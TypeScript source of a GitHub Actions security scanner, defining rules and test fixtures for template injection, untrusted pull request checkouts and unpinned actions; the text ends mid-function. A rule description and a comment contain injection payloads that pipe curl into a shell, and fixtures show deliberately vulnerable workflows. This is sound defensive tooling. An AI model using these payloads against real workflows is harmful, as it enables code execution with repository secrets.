import { severityRank, type Severity } from '../../../core/finding.js';
import { expressionAsCode, resultIsJson, unreadableGithubScripts } from './script-writes.js';
import { holdsTextOnly, onlySetsItsOwnVariable } from './toolkit-env.js';
import { actionRelease } from './action-release.js';
import { detailNote, inside, type Hit, type PlatformRules } from '../rule.js';
import { downloadRunsIn } from '../downloads.js';
import { downloadsOtherRunArtifacts } from './artifacts.js';
import { envFileWrites } from './env-writes.js';
import { PIPED_DOWNLOAD_IN_SCRIPT, UNVERIFIED_RUN_IN_SCRIPT, VERIFICATION_OFF_IN_SCRIPT, printedAt, verificationOff } from '../script-checks.js';
import { isLiteralSecretValue, isSecretName, nameTokens } from '../secret-names.js';
import { pipedDownloadSites } from '../script-dialect.js';
import { joinContinuations, PLAIN_HTTP_PIPE_NOTE } from '../shell.js';
import { get, isTrue, isYMap, isYScalar, isYSeq, items, pair, stringValue, text, type YMap, type YNode, type YScalar } from '../yaml/tree.js';
import { githubScriptTaint, originOf, taintOf, taintedVariable, untrustedSource, worst } from './taint.js';
import { mayYield, parseExpression } from './expression.js';
import { GATED, alwaysTrueCondition, dangerousTrigger, spoofableBotCheck } from './condition-rules.js';
import { jobGateOf, onlyNamedAuthor, runsFor, weakestGate } from './gates.js';
import { broadAppToken } from './app-token-rules.js';
import { cachePoisoning, checksOnly, isCacheAction, unpinnedContainerImage, unpinnedPackageInstall } from './supply-rules.js';
import { constantExpression, unredactedSecret, unsoundContainsRule, unsoundTernary } from './expression-rules.js';
import { archivedAction, cmdShell, setupPythonPipInstall, unpinnedTool } from './hygiene-rules.js';
import { environmentPrinted, passwordArgument } from './exposure-rules.js';
import { longLivedPublishToken } from './publish-rules.js';
import { PINNED_CHECKOUT, isPrivileged, tokenMayWrite, workflow, workflowRule, type WorkflowRule } from './rule-kit.js';
import { forbiddenUses, obfuscatedUses, typosquattedAction } from './uses-rules.js';
import { calledCheckoutGate, calledCheckoutRunsFor, calledCheckouts, calledRoute, laterStepRunningFiles, untrustedCheckoutInput } from './untrusted-code.js';
import {
  blockScalarOn,
  githubScriptRuns,
  PRIVILEGED_TRIGGERS,
  PUBLIC_TRIGGERS,
  expressions,
  isAction,
  jobLabel,
  lineOfOffset,
  lineOfText,
  parseUses,
  readWorkflow,
  runDialect,
  runParts,
  runShell,
  stepLabel,
  withValue,
  workflowRunFromMaintainers,
  type Job,
  type Step,
  type Workflow,
} from './model.js';

/**
 * Action inputs that are run as code: a script, an inline command run by a shell, a
 * template compiled to JavaScript (lodash templates in tibdex/backport) or evaluated as a
 * JavaScript template literal (the message inputs of the issue closers, action-slack's
 * custom payload). Keys are lower case; GitHub matches action names and input names
 * without regard to case. The list follows the sinks CodeQL models for Actions.
 */
const CODE_INPUTS: ReadonlyMap<string, readonly string[]> = new Map([
  ['actions/github-script', ['script']],
  ['amadevus/pwsh-script', ['script']],
  ['jannekem/run-python-script-action', ['script']],
  ['azure/cli', ['inlinescript']],
  ['azure/powershell', ['inlinescript']],
  ['appleboy/ssh-action', ['script']],
  ['addnab/docker-run-action', ['run']],
  // Shell commands run as written: retried (nick-invision is nick-fields' former name), in a container of another architecture or in a VM.
  ['nick-fields/retry', ['command', 'on_retry_command', 'new_command_on_retry']],
  ['nick-invision/retry', ['command', 'on_retry_command', 'new_command_on_retry']],
  ['wandalen/wretry.action', ['command']],
  ['uraimo/run-on-arch-action', ['run', 'setup', 'install']],
  ['cross-platform-actions/action', ['run']],
  ['tibdex/backport', ['body_template', 'title_template', 'head_template', 'labels_template']],
  ['mikefarah/yq', ['cmd']],
  ['devorbitus/yq-action-output', ['cmd']],
  ['sergeysova/jq-action', ['cmd']],
  ['8398a7/action-slack', ['custom_payload']],
  ['gautamkrishnar/blog-post-workflow', ['item_exec']],
  ['skitionek/notify-microsoft-teams', ['overwrite']],
  ['roots/issue-closer-action', ['issue-close-message', 'pr-close-message']],
  ['lucasbento/auto-close-issues', ['issue-close-message']],
  ['imjohnbo/issue-bot', ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text']],
]);

interface Script {
  step: Step;
  scalar: YScalar;
  keyLine: number;
  kind: 'run' | 'action';
  /** `the shell script`, `the actions/github-script script input`. */
  what: string;
}

/** Scripts that run code: `run:` and the code inputs of the actions in CODE_INPUTS. */
function* scriptsOf(wf: Workflow): Generator<Script> {
  for (const job of wf.jobs) {
    for (const step of job.steps) {
      if (step.run && typeof step.run.value === 'string') yield { step, scalar: step.run, keyLine: step.runLine!, kind: 'run', what: 'its shell script' };
      const action = step.uses ? parseUses(step.uses).action.toLowerCase() : undefined;
      const inputs = action ? CODE_INPUTS.get(action) : undefined;
      if (!inputs || !step.with) continue;
      for (const p of step.with.pairs) {
        if (inputs.includes(p.key.toLowerCase()) && isYScalar(p.value) && typeof p.value.value === 'string')
          yield { step, scalar: p.value, keyLine: p.keyLine, kind: 'action', what: `the ${p.key} input of ${action}, which runs as code` };
      }
    }
  }
}

const templateInjection = workflowRule({
  id: 'iac/gha-template-injection',
  title: 'Attacker-controlled input expanded into a script',
  description:
    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script, a github-script `script:` or the input of another action that runs it as code (nick-fields/retry\'s `command`, the `run:` of run-on-arch-action or cross-platform-actions, addnab/docker-run-action\'s `run`...), directly or through an earlier step's output (a shell or github-script step that wrote such text, a file of a fork's artifacts, or the names of its files (`$(find dist -name '*.whl')`: a fork chooses them, `;` and `$(` included), to an output). The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets. Critical in a workflow that runs with privileges on outsiders' events (and for the text of a review or review comment on pull_request_review and pull_request_review_comment, which anyone writes on the base repository's own pull requests, whose runs have secrets; the pull request's own title and branch there are a fork's, in a run without them, or a maintainer's), high when a gate stands in front of the step (a label only maintainers add, a permission or author_association check, a deployment environment, an `if:` that keeps forks out) and in other workflows. In a workflow_run workflow whose upstream workflows (found by name in the same repository) start only on maintainers' events such as push, schedule or release, the triggering run's branch and workflow file are the repository's own and are not reported, and its commit message is judged as a push's (high, not critical). The triggering workflow's name (`github.event.workflow_run.name`) is not reported when `workflows:` lists names without wildcards: only a workflow of one of those names starts the run, so a fork that renames its workflow starts nothing (its run title and file path are still reported). A context that no trigger of the workflow carries (`github.event.head_commit` outside push events, `github.event.issue` outside issues and issue comments) expands to nothing and is reported at low, as a trigger added later would make it live; a context counts as privileged only when a privileged trigger carries it (a push's commit message in a workflow also run for issue comments is high). A pull request's branch name is not reported behind an `if:` that admits only pull requests a named account opened (`github.event.pull_request.user.login == 'dependabot[bot]'`, in the step, its job or a job it needs): it is that account's (a test of github.actor is no such gate). Nor is a github-script step's `result` (JSON, unless its result-encoding is string) written where another github-script script takes an expression (`const pr = ${{ steps.pr.outputs.result }}`): JavaScript reads the JSON as the value it encodes. Unlike zizmor, `github.ref` and `github.ref_name` are not reported: on pull request events they are the merge ref (`refs/pull/N/merge`) or the base branch, and the branch or tag of a push is one that only someone with write access to the repository created.",
  remediation: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"` (in github-script, read context.payload instead).',
  severity: 'high',
  cwe: ['CWE-94', 'CWE-78'],
  examples: {
    positive: [
      workflow('      # expect\n      - run: |\n          # detail\n          echo "Title: ${{ github.event.issue.title }}"\n', 'issues'),
      workflow('      # expect\n      - run: git checkout ${{ github.head_ref }}\n', 'pull_request'),
      workflow('      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          # expect\n          script: |\n            # detail\n            const body = `${{ github.event.comment.body }}`\n', 'issue_comment'),
      workflow('      - env:\n          BRANCH: ${{ github.event.pull_request.head.ref }}\n        # expect\n        run: |\n          # detail\n          echo ${{ env.BRANCH }}\n', 'pull_request_target'),
      // The command of an action that runs it in a shell: nick-fields/retry, run-on-arch's `run:`.
      workflow('      - uses: nick-fields/retry@ce71cc2ab81d554ebbe88c79ab5975992d79ba08 # v3.0.2\n        with:\n          max_attempts: 3\n          # expect\n          command: ./deploy.sh "${{ github.event.pull_request.head.ref }}"\n', 'pull_request_target'),
      workflow('      - uses: uraimo/run-on-arch-action@d94c13912ea685de38fccc1109385b83fd79427d # v3.0.1\n        with:\n          arch: aarch64\n          # expect\n          run: |\n            # detail\n            echo "${{ github.event.issue.title }}"\n', 'issues'),
      workflow('      # expect\n      - run: |\n          # detail\n          echo "${{ github.event.commits[0].message }}"\n', 'push'),
      workflow('      # expect\n      - run: |\n          echo "triggered by"\n          # detail\n          echo "${{ github.event.workflow.path }}"\n', 'workflow_run'),
      workflow('      - uses: azure/cli@089eac9d8cc39f5d003e94f8b65efc51076c9cbd # v2.1.0\n        with:\n          # expect\n          inlineScript: |\n            # detail\n            az tag create --name "${{ github.event.pull_request.head.ref }}"\n', 'pull_request'),
      workflow('      - id: branch\n        uses: xt0rted/pull-request-comment-branch@e8b8daa837e8ea7331c0003c9c316a64c6d8b0b1 # v3.0.0\n      # expect\n      - run: git push origin "HEAD:${{ steps.branch.outputs.head_ref }}"\n', 'issue_comment'),
      // A changed file's name is the pull request author's: `a$(curl example.org|sh).txt` is a valid one.
      workflow('      - id: files\n        uses: masesgroup/retrieve-changed-files@45a8b3b496d2d6037cbd553e8a3450989b9384a2 # v4.0.0\n      # expect\n      - run: echo "${{ steps.files.outputs.all }}" | grep -q requirements.txt\n', 'pull_request'),
      workflow('      - uses: mikefarah/yq@f03c9dc599c37bfcaf533427211d05e51e6fee64 # v4.47.1\n        with:\n          # expect\n          cmd: yq -i \'.title = "${{ github.event.pull_request.title }}"\' meta.yaml\n', 'pull_request_target'),
      'name: greet\ndescription: composite action\ninputs:\n  who:\n    required: true\nruns:\n  using: composite\n  steps:\n    # expect\n    - run: echo "hello ${{ inputs.who }}"\n      shell: bash\n',
      // The title reaches the second script through the first step's output.
      workflow('      - id: meta\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"\n      # expect\n      - run: ./label.sh "${{ steps.meta.outputs.title }}"\n', 'issues'),
      'name: notify\non:\n  workflow_call:\n    inputs:\n      title:\n        type: string\n        required: true\npermissions: {}\njobs:\n  post:\n    runs-on: ubuntu-latest\n    steps:\n      # expect\n      - run: ./notify.sh "${{ inputs.title }}"\n',
      // An expression broken across the lines of a folded block: the detail is the line where it starts.
      workflow('      # expect\n      - run: >\n          ./tool init --out=Default\n          # detail\n          --title ${{\n          github.event.issue.title }} --remote\n', 'issues'),
      // A github-script step returns a file of the triggering run's artifacts: its `result` output is the fork's text.
      workflow("      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          result-encoding: string\n          script: |\n            const fs = require('fs');\n            return fs.readFileSync('./pr_number', 'utf8').trim();\n      # expect\n      - run: gh pr comment ${{ steps.pr.outputs.result }} --body 'Preview ready'\n", 'workflow_run'),
      workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { head } = context.payload.pull_request;\n            core.setOutput('branch', head.ref);\n      # expect\n      - run: ./deploy-preview.sh ${{ steps.pr.outputs.branch }}\n", 'pull_request_target'),
      // github.actor is whoever caused the event, which another account can make the bot be; `!=` keeps outsiders in.
      "name: bump\non: pull_request\npermissions: {}\njobs:\n  update:\n    if: github.actor == 'dependabot[bot]' || github.event.pull_request.user.login != 'renovate[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      # expect\n      - run: git push origin \"HEAD:refs/heads/${{ github.event.pull_request.head.ref }}\"\n",
      // A wildcard admits any workflow whose name fits, a fork's renamed one too.
      "name: report\non:\n  workflow_run:\n    workflows: ['tests*']\n    types: [completed]\npermissions:\n  statuses: write\njobs:\n  status:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          # expect\n          script: |\n            # detail\n            await github.rest.repos.createCommitStatus({ ...context.repo, sha: context.payload.workflow_run.head_sha, state: 'success', context: 'Report (${{ github.event.workflow_run.name }})' });\n",
      // JSON in a template literal: a backtick in the title ends the literal.
      workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { data } = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number });\n            return { branch: data.head.ref, title: data.title };\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          # expect\n          script: const pr = JSON.parse(`${{ steps.pr.outputs.result }}`); core.info(pr.title)\n", 'issue_comment'),
    ],
    negative: [
      workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n', 'issues'),
      workflow('      - run: echo "${{ github.event.issue.number }} ${{ github.sha }}"\n', 'issues'),
      workflow('      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: console.log(context.payload.comment.body)\n', 'issue_comment'),
      // The step's own NAME hides the tainted job-level one.
      'name: ci\non: issues\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    env:\n      NAME: ${{ github.event.issue.title }}\n    steps:\n      - env:\n          NAME: fixed\n        run: echo "${{ env.NAME }}"\n',
      // A workflow's inputs come from someone allowed to dispatch it.
      workflow('      - run: echo "${{ inputs.who }}"\n', 'workflow_dispatch'),
      // The title is only compared: the value, here and in the matrix, is one of the literals.
      'name: ci\non: issues\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        kind: ${{ startsWith(github.event.issue.title, \'[docs]\') && fromJSON(\'["docs"]\') || fromJSON(\'["code", "tests"]\') }}\n    steps:\n      - run: echo "${{ github.event.issue.title == \'help\' && \'question\' || \'bug\' }}" "${{ matrix.kind }}"\n',
      // An output written from the issue number carries no text.
      workflow('      - id: meta\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          echo "number=${{ github.event.issue.number }}" >> "$GITHUB_OUTPUT"\n          ./check-title.sh "$TITLE"\n      - run: ./label.sh "${{ steps.meta.outputs.number }}"\n', 'issues'),
      // The head sha of the pull request is a hash.
      workflow('      - id: branch\n        uses: xt0rted/pull-request-comment-branch@e8b8daa837e8ea7331c0003c9c316a64c6d8b0b1 # v3.0.0\n      - run: git fetch origin "${{ steps.branch.outputs.head_sha }}"\n', 'issue_comment'),
      // A number read from the artifact, or the pull request's number and head sha, cannot carry code.
      workflow("      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const fs = require('fs');\n            core.setOutput('number', Number(fs.readFileSync('./pr_number', 'utf8')));\n            core.setOutput('sha', context.payload.workflow_run.head_sha);\n      - run: gh pr comment ${{ steps.pr.outputs.number }} --body 'Built ${{ steps.pr.outputs.sha }}'\n", 'workflow_run'),
      // Only pull requests Dependabot opened reach the job (through the job it needs): the branch name is Dependabot's.
      "name: bump\non: pull_request\npermissions:\n  contents: write\njobs:\n  metadata:\n    if: github.event.pull_request.user.login == 'dependabot[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo checked\n  update:\n    needs: metadata\n    runs-on: ubuntu-latest\n    steps:\n      - run: git push origin \"HEAD:refs/heads/${{ github.event.pull_request.head.ref }}\"\n",
      // github-script's `result` is JSON unless result-encoding is string: written where code is, it is a literal of the value.
      workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { data } = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number });\n            return { branch: data.head.ref, title: data.title };\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const pr = ${{ steps.pr.outputs.result }};\n            await github.rest.actions.createWorkflowDispatch({ ...context.repo, workflow_id: 'ci.yml', ref: 'main', inputs: { branch: pr.branch } });\n", 'issue_comment'),
      // Only a run of a workflow named `tests` starts this one: a fork that renames its workflow starts nothing.
      "name: report\non:\n  workflow_run:\n    workflows: [tests]\n    types: [completed]\npermissions:\n  statuses: write\njobs:\n  status:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            await github.rest.repos.createCommitStatus({ ...context.repo, sha: context.payload.workflow_run.head_sha, state: 'success', context: 'Report (${{ github.event.workflow_run.name }})' });\n",
      // A boolean or number input of a reusable workflow cannot carry code.
      'name: build\non:\n  workflow_call:\n    inputs:\n      debug:\n        type: boolean\n      jobs:\n        type: number\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make -j${{ inputs.jobs }} DEBUG=${{ inputs.debug }}\n',
    ],
  },
  *check(wf) {
    for (const { step, scalar, keyLine, what } of scriptsOf(wf)) {
      const taint = taintOf(wf, step);
      for (const expression of expressions(scalar.value as string)) {
        const source = untrustedSource(expression.inner, taint, wf);
        if (!source || jsonValueInScript(step, scalar, expression)) continue;
        // The branch of a pull request only a named account (a bot) can have opened is that account's.
        if (PULL_REQUEST_BRANCH.test(originOf(source)) && onlyNamedAuthor(wf, step.job, step)) continue;
        const at = inside(keyLine, lineOfText(wf, scalar, expression.raw, keyLine));
        const privileged = source.severity === undefined && (source.privileged ?? isPrivileged(wf));
        // Behind a maintainer's action or a fork check, an outsider's text still runs, but not on the outsider's own say.
        const gate = privileged && step ? weakestGate(wf, step.job, step, [...wf.triggers.keys()].filter((t) => PRIVILEGED_TRIGGERS.has(t) || source.privilegedBy?.includes(t))) : undefined;
        yield {
          ...at,
          message: `${stepLabel(step)} expands ${source.text} into ${what}${detailNote(at)}; pass it through env: and quote it${gate ? ` (${gate.why}: an outsider cannot run it on their own)` : ''}.`,
          resource: stepLabel(step),
          severity: source.severity ?? (privileged ? (gate ? 'high' : 'critical') : 'high'),
        };
      }
    }
  },
});

/** The pull request's branch name, as the event gives it. */
const PULL_REQUEST_BRANCH = /^github\.(?:event\.pull_request\.head\.ref|head_ref)$/i;

/**
 * `const pr = ${{ steps.pr.outputs.result }}` in a github-script script, where step pr is
 * a github-script step whose `result` is JSON (github-script's default encoding): the text
 * is a JSON literal, which JavaScript reads as the value it writes, whatever strings it holds.
 */
function jsonValueInScript(step: Step, scalar: YScalar, expression: { inner: string; offset: number }): boolean {
  const id = /^steps\.([\w-]+)\.outputs\.result$/i.exec(expression.inner)?.[1];
  if (!id || !isAction(step, 'actions/github-script') || get(step.with, 'script') !== scalar) return false;
  const writer = step.job.steps.find((s) => s.index < step.index && text(get(s.node, 'id'))?.toLowerCase() === id.toLowerCase());
  return writer !== undefined && resultIsJson(writer) && expressionAsCode(scalar, expression.offset);
}

/** Why a checkout of pull request code that no later step runs is one severity lower. */
const NOTHING_RUNS_YET = '; no later step of the job runs code from it (they only read, upload or report files), so nothing of the pull request runs yet, but a build, test or install step added to the job would run it with these privileges';

const untrustedCheckout = workflowRule({
  id: 'iac/gha-untrusted-checkout',
  title: 'Privileged workflow checks out pull request code',
  description:
    'A workflow triggered by pull_request_target, workflow_run or a comment runs with a write token and the repository secrets, and then checks out the code of the pull request. Any build, test or install step that follows runs the attacker\'s code with those privileges ("pwn request"). Critical when any outsider can start it; high when a maintainer has to act first (a label only maintainers add, an author_association, permission or organization membership check, a deployment environment that can require approval, in the `if:` of the job, the step or a job it needs, or in an earlier step); low when an `if:` or an earlier failing step keeps forks\' pull requests out, or the `if:` admits only pull requests a named account opened (`github.event.pull_request.user.login == \'dependabot[bot]\'`: no outsider is that account). One step lower (high, or medium behind a maintainer) when no later step of the job can run the checked-out code: every later run step only reads, compares, copies or reports files (cat, grep, jq, git, gh, tar...), and every later action is one known to only read or upload them (actions/upload-artifact, comment actions, setup actions); a local action, any other action, an install, build, test or a script of the tree counts as running it. A `uses: docker://IMAGE` step mounts the workspace and runs the image\'s entrypoint: it counts unless its command is known and runs nothing of the tree (an `entrypoint:` with its `args:`, or the `args:` of an image with no entrypoint of its own such as docker or alpine: `docker restart NAME`); semgrep only reads the files it scans. A workflow_run workflow whose upstream workflows (found by name in the same repository) start only on maintainers\' events such as push, schedule or release checks out the repository\'s own commit when it takes the triggering run\'s head, and is not reported. A job that calls a local reusable workflow of the scan lends it its event and privileges, and so does that workflow to the local reusable workflows it calls in turn (followed up to ten deep, each workflow once on a path): a checkout there of an input the job fills with the pull request\'s head (reported at that `with:` entry), whether passed on by the workflows on the way (`ref: ${{ inputs.ref }}`) or not, or of an input whose `default:` names the head when nothing is passed for it, or of the event\'s head itself (reported at the job\'s `uses:`), is judged as the job\'s own, with the `if:` of the calling job, of the calling jobs on the way and of the called job and step; a called workflow that is privileged on its own reports the checkout itself. A step that uses a local composite action of the scan checks out what the action\'s actions/checkout step does: an input the step fills with the head (reported at that `with:` entry), the input\'s `default:` when the step passes none, or the head named in the action (reported at the step\'s `uses:`); the action\'s own steps after its checkout count among those that may run the code. A workflow or action of the repository itself called by its full name (`owner/repo/.github/workflows/x.yml@main`) is followed as a local one when the repository\'s name is known (its git `origin` remote, or `iac.githubRepository` in secloop.yaml), as the scanned checkout has it.',
  remediation: 'Use the pull_request trigger for anything that builds or tests PR code; if a privileged follow-up is needed, pass data through artifacts and never execute checked-out PR code in the privileged workflow.',
  severity: 'critical',
  cwe: ['CWE-829'],
  examples: {
    positive: [
      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          # expect\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n', 'pull_request_target'),
      workflow('      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.workflow_run.head_repository.full_name }}\n          # expect\n          ref: ${{ github.event.workflow_run.head_branch }}\n', 'workflow_run'),
      // The head of the pull request a comment is on, looked up by an earlier step.
      workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { data } = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number });\n            core.setOutput('head', data.head.sha);\n            core.setOutput('commit', data.head.sha);\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          # expect\n          ref: ${{ steps.pr.outputs.head }}\n      - run: make test\n", 'issue_comment'),
      workflow('      - id: pr\n        run: echo "pr_sha=$(gh pr view ${{ github.event.issue.number }} --json headRefOid -q .headRefOid)" >> "$GITHUB_OUTPUT"\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          # expect\n          ref: ${{ steps.pr.outputs.pr_sha }}\n', 'issue_comment'),
    ],
    negative: [
      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n', 'pull_request'),
      // A run on an approving review: like pull_request, a fork's gets no secrets and a read-only token.
      workflow('      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha || github.ref }}\n          persist-credentials: false\n      - run: make test\n', '\n  pull_request_review:\n    types: [submitted]'),
      workflow(PINNED_CHECKOUT, 'pull_request_target'),
      // A ref an earlier step computed from the repository's own tags.
      workflow('      - id: meta\n        run: echo "release_ref=$(git describe --tags --abbrev=0)" >> "$GITHUB_OUTPUT"\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          ref: ${{ steps.meta.outputs.release_ref }}\n', 'issue_comment'),
      // A reusable workflow that is not among the scanned files: what it does with the ref is not known.
      'name: pr\non: pull_request_target\npermissions:\n  contents: read\njobs:\n  build:\n    uses: ./.github/workflows/build.yml\n    with:\n      ref: ${{ github.event.pull_request.head.sha }}\n',
    ],
  },
  *check(wf) {
    if (!isPrivileged(wf)) return;
    const triggers = [...wf.triggers.keys()].filter((t) => PRIVILEGED_TRIGGERS.has(t));
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        const risky = untrustedCheckoutInput(step, wf);
        if (!risky) continue;
        if (!triggers.some((t) => runsFor(t, job, step))) continue;
        const gate = weakestGate(wf, job, step, triggers);
        const runs = laterStepRunningFiles(wf, step);
        const severity: Severity | undefined = gate ? (gate.kind === 'maintainer' ? (runs ? 'high' : 'medium') : 'low') : runs ? undefined : 'high';
        yield {
          line: risky.line,
          message: `${stepLabel(step)} checks out pull request code (${risky.value.trim()}) in a workflow that runs with secrets${tokenMayWrite(wf, job) ? ' and a write token' : ''}${gate ? `, but ${gate.why}, so ${GATED[gate.kind]}` : ''}${runs ? '' : NOTHING_RUNS_YET}.`,
          resource: stepLabel(step),
          ...(severity ? { severity } : {}),
        };
      }
      // A local reusable workflow runs with this workflow's event and privileges: its checkouts are this job's.
      const called: Array<Hit & { severity: Severity; step: Step }> = [];
      for (const call of calledCheckouts(wf, job)) {
        if (call.foundByCallee) continue;
        const reached = triggers.filter((t) => calledCheckoutRunsFor(t, job, call));
        if (reached.length === 0) continue;
        const gates = reached.map((t) => calledCheckoutGate(wf, job, call, t));
        const gate = gates.some((g) => !g) ? undefined : (gates.find((g) => g!.kind === 'maintainer') ?? gates[0]);
        const runs = laterStepRunningFiles(call.callee, call.step);
        const severity: Severity = gate ? (gate.kind === 'maintainer' ? (runs ? 'high' : 'medium') : 'low') : runs ? 'critical' : 'high';
        const write = tokenMayWrite(wf, job) && tokenMayWrite(call.callee, call.step.job);
        const secrets = get(job.node, 'secrets');
        const given = [...(secrets === undefined ? [] : [text(secrets) === 'inherit' ? "the repository's secrets" : 'the secrets it passes']), ...(write ? ['a write token'] : [])];
        called.push({
          line: call.line,
          message: `${jobLabel(job)} calls ${calledRoute(call)}, whose ${stepLabel(call.step)} checks out pull request code (${call.what}) on ${reached.join('/')}${given.length > 0 ? ` with ${given.join(' and ')}` : ''}${gate ? `, but ${gate.why}, so ${GATED[gate.kind]}` : ''}${runs ? `; ${runs}` : NOTHING_RUNS_YET.replace('of the job', 'of the called job')}`,
          resource: jobLabel(job),
          severity,
          step: call.step,
        });
      }
      // One finding per line of the caller: the worst of the checkouts it leads to, with a count of the others.
      for (const line of new Set(called.map((h) => h.line))) {
        const here = called.filter((h) => h.line === line).sort((a, b) => severityRank(b.severity) - severityRank(a.severity));
        const { step: _step, ...worst } = here[0]!;
        // A step reached through several jobs on the way is one checkout step.
        const others = new Set(here.map((h) => h.step)).size - 1;
        yield { ...worst, message: `${worst.message}${others > 0 ? `; ${others} more of its checkout steps check out the same code` : ''}.` };
      }
    }
  },
});

const FULL_SHA = /^[0-9a-f]{40}$/;

/** The reusable workflows of the SLSA generator, which verify their own ref and must be called by a `vX.Y.Z` tag. */
const SLSA_GENERATOR = /^slsa-framework\/slsa-github-generator\/\.github\/workflows\//i;

const unpinnedAction = workflowRule({
  id: 'iac/gha-unpinned-action',
  title: 'Action not pinned to a commit SHA',
  description:
    'The step uses an action by tag or branch (`@v4`, `@main`). Tags and branches can be moved: if the action\'s repository is compromised (as tj-actions/changed-files was in 2025), every workflow using the tag runs the attacker\'s code with its secrets.',
  remediation: 'Pin to the full 40-character commit SHA and keep the version in a comment: uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2 (a docker:// image to its digest: docker://alpine:3.20@sha256:...). Dependabot and Renovate update pinned SHAs. The reusable workflows of slsa-framework/slsa-github-generator are the exception: they must be called by their release tag.',
  severity: 'medium',
  cwe: ['CWE-829'],
  examples: {
    positive: [
      workflow('      # expect\n      - uses: actions/setup-node@main\n'),
      workflow('      # expect\n      - uses: tj-actions/changed-files@v45\n'),
      workflow('      # expect\n      - uses: docker://alpine:3.20\n'),
      // Info only: the SLSA generator must be called by tag.
      'name: release\non: push\npermissions: {}\njobs:\n  provenance:\n    permissions:\n      id-token: write\n    # expect\n    uses: slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.1.0\n    with:\n      base64-subjects: abc\n',
    ],
    negative: [workflow(PINNED_CHECKOUT), workflow('      - uses: ./.github/actions/setup\n'), workflow('      - uses: docker://alpine@sha256:0d1c1e5a3b4e8f2f7f5d3d6a0c1e9b3a7a1c2f1e4d5b6c7d8e9f0a1b2c3d4e5f\n')],
  },
  *check(wf) {
    const candidates: Array<{ uses: string; line: number; label: string }> = [];
    for (const job of wf.jobs) {
      for (const step of job.steps) if (step.uses) candidates.push({ uses: step.uses, line: step.usesLine!, label: stepLabel(step) });
      const reusable = pair(job.node, 'uses');
      const value = text(reusable?.value);
      if (reusable && value) candidates.push({ uses: value, line: reusable.keyLine, label: jobLabel(job) });
    }
    for (const { uses, line, label } of candidates) {
      const ref = parseUses(uses);
      if (ref.local) continue;
      if (ref.docker ? ref.ref?.startsWith('sha256:') : ref.ref !== undefined && FULL_SHA.test(ref.ref)) continue;
      const owner = ref.action.split('/')[0]?.toLowerCase();
      if (SLSA_GENERATOR.test(ref.action) && /^v\d+\.\d+\.\d+$/.test(ref.ref ?? '')) {
        yield {
          line,
